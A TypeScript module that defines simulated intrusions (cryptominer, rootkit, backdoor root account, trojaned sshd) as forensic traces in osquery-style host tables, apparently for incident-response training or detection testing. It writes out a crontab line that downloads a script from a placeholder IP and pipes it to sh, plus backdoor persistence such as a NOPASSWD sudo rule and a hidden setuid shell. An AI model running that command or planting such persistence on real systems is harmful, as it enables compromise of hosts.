import { addFile, addListener, addProcess, addRow, addUnit, digestOf, type SimulatedHost } from './host.ts'
import type { Random } from './random.ts'

/** An attack that can be carried out on hosts of a fleet. */
export interface Attack {
  readonly name: string
  readonly description: string
  readonly hostCount: number
  carryOut(host: SimulatedHost, random: Random): void
}

/** Attacks as incident responders meet them, each with traces in several tables. */
export const ATTACKS: readonly Attack[] = [
  {
    name: 'cryptominer',
    description: 'A miner that runs from memory, restarts by cron and talks to its pool',
    hostCount: 3,
    carryOut(host, random) {
      const pid = random.between(20_000, 60_000)
      addProcess(host, {
        pid,
        path: '/memfd:x (deleted)',
        cmdline: '[kworker/0:3-events]',
        name: 'kworker/0:3',
        uid: 33,
        on_disk: 0,
        cgroup_path: '/system.slice/cron.service'
      })
      addRow(host, 'crontab', {
        path: '/var/spool/cron/crontabs/www-data',
        command: 'curl -fsSL http://198.51.100.23/a.sh | sh',
        minute: '*/5',
        hour: '*',
        day_of_month: '*',
        month: '*',
        day_of_week: '*'
      })
      addRow(host, 'process_open_sockets', {
        pid,
        family: 2,
        protocol: 6,
        local_address: host.address,
        local_port: random.between(33_000, 60_000),
        remote_address: '198.51.100.23',
        remote_port: 3333,
        state: 'ESTABLISHED'
      })
    }
  },
  {
    name: 'rootkit',
    description: 'A kernel module that hides itself, and a library preloaded into every program',
    hostCount: 1,
    carryOut(host, random) {
      addRow(host, 'kernel_modules', {
        name: 'diamorphine',
        size: 16_384,
        used_by: '-',
        status: 'Live',
        address: `0xffffffffc0${random.hex(6)}`
      })
      addFile(host, '/etc/ld.so.preload', 'preload of the rootkit')
      addRow(host, 'file', {
        path: '/usr/lib/.x/libprocesshider.so',
        directory: '/usr/lib/.x',
        type: 'regular',
        mode: '0755',
        uid: 0
      })
      addRow(host, 'file', {
        path: '/usr/lib/.x',
        directory: '/usr/lib',
        type: 'directory',
        mode: '0755',
        uid: 0
      })
    }
  },
  {
    name: 'backdoor-account',
    description: 'A second root account with its own key and a sudo rule',
    hostCount: 2,
    carryOut(host) {
      addRow(host, 'users', {
        username: 'sysadm',
        uid: 0,
        gid: 0,
        shell: '/bin/bash',
        directory: '/var/lib/sysadm'
      })
      addRow(host, 'shadow', {
        username: 'sysadm',
        password_status: 'active',
        hash_alg: '6',
        last_change: 20_700
      })
      addRow(host, 'authorized_keys', {
        uid: 0,
        algorithm: 'ssh-rsa',
        key: 'AAAAB3NzaC1yc2EAAAADAQABAAABgQDintruderkeyintruderkeyintruder',
        comment: 'x@y',
        key_file: '/root/.ssh/authorized_keys',
        options: ''
      })
      addRow(host, 'sudoers', {
        source: '/etc/sudoers.d/90-sys',
        header: 'www-data',
        rule_details: 'ALL=(ALL) NOPASSWD: ALL'
      })
    }
  },
  {
    name: 'trojaned-sshd',
    description: 'A modified sshd under the same package version, a setuid shell and a listening service',
    hostCount: 1,
    carryOut(host, random) {
      const sshd = host.tables.hash?.find(row => row.path === '/usr/sbin/sshd')
      if (sshd !== undefined) sshd.sha256 = digestOf('sshd of an intruder')
      addRow(host, 'file', {
        path: '/var/tmp/.bash',
        directory: '/var/tmp',
        type: 'regular',
        mode: '4755',
        uid: 0,
        size: 1_265_648
      })
      const pid = random.between(20_000, 60_000)
      addFile(host, '/usr/lib/systemd/systemd-networkd-helper', 'program of an intruder', { mode: '0755' })
      addProcess(host, {
        pid,
        path: '/usr/lib/systemd/systemd-networkd-helper',
        cmdline: '/usr/lib/systemd/systemd-networkd-helper -l 31337',
        cgroup_path: '/system.slice/networkd-helper.service'
      })
      addListener(host, random, pid, 6, '0.0.0.0', 31_337)
      addUnit(host, 'networkd-helper.service', '/etc/systemd/system', 'active', 'enabled')
      addFile(host, '/etc/systemd/system/networkd-helper.service', 'unit of an intruder')
    }
  }
]
